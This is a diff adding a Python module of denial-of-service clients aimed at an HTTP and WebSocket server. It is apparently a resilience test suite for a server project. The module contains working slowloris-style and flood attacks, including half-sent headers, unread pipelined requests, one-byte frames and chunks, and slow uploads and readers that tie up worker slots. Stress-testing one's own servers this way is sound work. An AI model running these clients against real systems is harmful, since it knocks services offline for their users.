@@ -1,0 +1,92 @@
+"""Clients that mean harm."""
+
+import socket
+import time
+
+from attack.wire import HANDSHAKE, Target, dial, flood, many, trickle, upgraded
+
+GET = b"GET / HTTP/1.1\r\nhost: a\r\n\r\n"
+POST = b"POST / HTTP/1.1\r\nhost: a\r\n"
+CHUNKED = POST + b"transfer-encoding: chunked\r\n\r\n"
+UPLOAD = POST + b"content-length: 1000000\r\n\r\n"
+EXPECT = POST + b"content-length: 1000\r\nexpect: 100-continue\r\n\r\n"
+MASK = b"\x37\xfa\x21\x3d"
+# Heads of frames: a text of one byte, an empty fragment of one, an empty one more, a full ping.
+TEXT, FRAGMENT, MORE, PING = b"\x81\x81", b"\x01\x80", b"\x00\x80", b"\x89\xfd"
+AT_ONCE = 256 * 1024
+CROWD = 500
+# As many as the worker has slots.
+SLOTS = 64
+
+
+def pipelining(target: Target) -> None:
+    """Requests without end, whose answers nobody reads."""
+    flood(lambda: dial(target.public), GET * (AT_ONCE // len(GET)))
+
+
+def unfinished_heads(target: Target) -> None:
+    """Connections that begin a request, and leave."""
+    while True:
+        with many(CROWD, target.public, GET[:10]):
+            time.sleep(0.1)
+
+
+def departures(target: Target) -> None:
+    """Requests that wait behind another, of somebody who leaves."""
+    while True:
+        with many(20, target.public, GET * 100):
+            time.sleep(0.1)
+
+
+def tiny_frames(target: Target) -> None:
+    """WebSocket messages of one byte."""
+    frame = TEXT + MASK + b"a"
+    flood(lambda: upgraded(target.public, HANDSHAKE), frame * (AT_ONCE // len(frame)))
+
+
+def empty_fragments(target: Target) -> None:
+    """A message of fragments that hold nothing, and no end."""
+    frame = MORE + MASK
+    flood(lambda: _begun(target), frame * (AT_ONCE // len(frame)))
+
+
+def _begun(target: Target) -> socket.socket:
+    sock = upgraded(target.public, HANDSHAKE)
+    sock.sendall(FRAGMENT + MASK)
+    return sock
+
+
+def pings(target: Target) -> None:
+    """Pings whose pongs nobody reads."""
+    frame = PING + MASK + bytes(125)
+    flood(lambda: upgraded(target.public, HANDSHAKE), frame * (AT_ONCE // len(frame)))
+
+
+def tiny_chunks(target: Target) -> None:
+    """An upload in chunks of one byte."""
+    chunk = b"1\r\na\r\n"
+    flood(lambda: dial(target.public, CHUNKED), chunk * (AT_ONCE // len(chunk)))
+
+
+def slow_uploads(target: Target) -> None:
+    """Uploads as slow as they may be, one for each slot."""
+    with many(SLOTS, target.public, UPLOAD) as socks:
+        trickle(socks, bytes(1200), 1.0)
+
+
+def slow_readers(target: Target) -> None:
+    """Large responses that nobody reads, one for each slot."""
+    with many(SLOTS, target.public, GET.replace(b"/", b"/large", 1), window=4096):
+        time.sleep(3600)
+
+
+def idle_websockets(target: Target) -> None:
+    """Open WebSockets with nothing to say, one for each slot."""
+    with many(SLOTS, target.public, HANDSHAKE):
+        time.sleep(3600)
+
+
+def silent_expect(target: Target) -> None:
+    """Uploads that wait to be asked for, and then say nothing."""
+    with many(300, target.public, EXPECT):
+        time.sleep(3600)
